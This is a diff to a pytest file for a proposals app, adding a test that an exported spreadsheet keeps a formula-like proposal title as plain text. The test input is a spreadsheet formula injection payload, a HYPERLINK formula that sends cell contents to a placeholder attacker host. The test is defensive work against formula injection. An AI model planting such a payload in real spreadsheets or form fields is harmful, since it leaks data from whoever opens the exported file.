@@ -3,7 +3,10 @@ answers."""
 
 from __future__ import annotations
 
+import io
+
 import pytest
+from openpyxl import load_workbook
 
 from hyeopchi.proposals import services
 from hyeopchi.proposals.models import Proposal
@@ -105,3 +108,12 @@ def test_an_answer_names_the_person_who_gave_it(baro: Baro):
     assert response.status_code == 302
     owed.refresh_from_db()
     assert (owed.respondent, owed.outcome) == (chair, "replied")
+
+
+def test_a_formula_in_a_title_stays_text_in_the_public_spreadsheet(baro: Baro):
+    baro.propose('=HYPERLINK("http://evil.example/?x="&A1,"x")', "제목이 수식입니다.")
+
+    sheet = load_workbook(io.BytesIO(client_for(None).get("/gwangju/proposals.xlsx").content))
+    title = sheet.worksheets[0].cell(row=2, column=3)
+
+    assert (title.value, title.data_type) == ('\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "s")
